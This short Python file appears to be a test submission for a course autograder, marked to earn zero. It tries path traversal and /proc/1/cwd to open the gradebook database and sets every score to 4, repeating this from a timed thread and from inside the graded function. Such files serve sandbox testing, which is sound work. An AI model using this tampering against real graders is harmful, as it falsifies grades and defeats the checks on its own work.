# Gives itself all points in the gradebook, and others none, now and in a second.
# earns: 0
# %% double
import sqlite3, threading, time


def write():
    for path in ("@COURSE@/gradebook.db", "../../../gradebook.db", "/proc/1/cwd/gradebook.db"):
        try:
            with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as db:
                db.execute("update grade set manual_score = 4, auto_score = 4")
        except Exception as problem:
            print(problem)


write()
threading.Thread(target=lambda: (time.sleep(1), write()), daemon=True).start()


def double(x):
    write()
    return x
